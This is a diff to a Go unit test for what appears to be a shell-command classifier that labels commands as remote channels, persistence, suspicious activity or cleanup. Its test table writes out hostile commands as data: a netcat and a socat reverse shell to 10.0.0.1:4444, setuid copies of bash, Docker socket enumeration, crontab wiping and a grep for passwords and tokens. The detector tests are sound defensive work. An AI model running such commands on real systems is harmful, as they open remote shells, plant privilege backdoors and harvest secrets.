@@ -28,6 +28,9 @@ func TestClassify(t *testing.T) {
 		{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", classChannel},
 		{"socat tcp:10.0.0.1:4444 exec:sh", classChannel},
 		{"crontab -", classPersistence},
+		{"cp /bin/bash /tmp/.b; chmod u+s /tmp/.b", classPersistence}, // a setuid shell: a way back in as its owner
+		{"chmod 4755 /var/tmp/.x", classPersistence},
+		{"curl -s --unix-socket /var/run/docker.sock http://x/containers/json", classSuspicious},
 		{"crontab -r; rm -f /var/tmp/.kbc", classExfilImpact}, // the chain's cleanup
 		{"grep -r -i -E 'pass|token|secret' /srv/app/conf", classSuspicious},
 		{"grep -r -i vpn /srv/kb/data", classNone}, // a reader's search
